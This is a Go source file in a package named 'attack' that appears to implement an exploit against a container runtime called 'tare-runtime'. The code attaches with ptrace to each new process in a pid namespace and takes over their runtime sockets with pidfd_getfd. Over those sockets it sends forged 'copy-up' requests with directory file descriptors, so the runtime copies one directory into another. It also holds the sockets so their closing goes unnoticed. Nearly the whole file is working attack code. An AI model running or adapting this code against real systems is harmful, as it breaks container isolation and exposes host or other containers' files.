package attack

import (
	"encoding/binary"
	"fmt"

	"golang.org/x/sys/unix"
)

// copyUpKind is the kind of record by which a process that tare-runtime sets up asks it to copy a directory into
// another one.
const copyUpKind = 5

// orders takes the socket between the runtime and each process that appears in the pid namespace, and asks over it for
// a copy of the directory from into the directory to. It prints "sent" for each.
func orders(from, to string) error {
	var dirs [2]int
	for i, path := range []string{from, to} {
		var err error
		if dirs[i], err = unix.Open(path, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err != nil {
			return err
		}
	}
	var record [16]byte // kind, and three numbers that this kind does not use
	binary.NativeEndian.PutUint32(record[:], copyUpKind)
	return takeSockets(func(s int) {
		ok := true
		for _, d := range dirs {
			ok = unix.Sendmsg(s, record[:], unix.UnixRights(d), nil, unix.MSG_NOSIGNAL|unix.MSG_DONTWAIT) == nil && ok
		}
		unix.Close(s)
		if ok {
			fmt.Println("sent")
		}
	})
}

// hold takes the same socket and keeps it, so that its end does not show. It prints "held" for each.
func hold() error {
	return takeSockets(func(int) { fmt.Println("held") })
}

// takeSockets calls use, with the process stopped, for each socket of each process that appears in the pid namespace.
// It never ends.
func takeSockets(use func(socket int)) error {
	return newProcesses(func(pid int) bool {
		pidfd, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			return false
		}
		defer unix.Close(pidfd)
		if unix.PtraceSeize(pid) != nil {
			return true
		}
		unix.PtraceInterrupt(pid)
		for n := 3; n < 64; n++ {
			s, err := unix.PidfdGetfd(pidfd, n, 0)
			if err != nil {
				continue
			}
			if _, err := unix.GetsockoptInt(s, unix.SOL_SOCKET, unix.SO_DOMAIN); err != nil {
				unix.Close(s)
				continue
			}
			use(s)
		}
		unix.Wait4(pid, nil, unix.WALL, nil)
		unix.PtraceDetach(pid)
		return true
	})
}
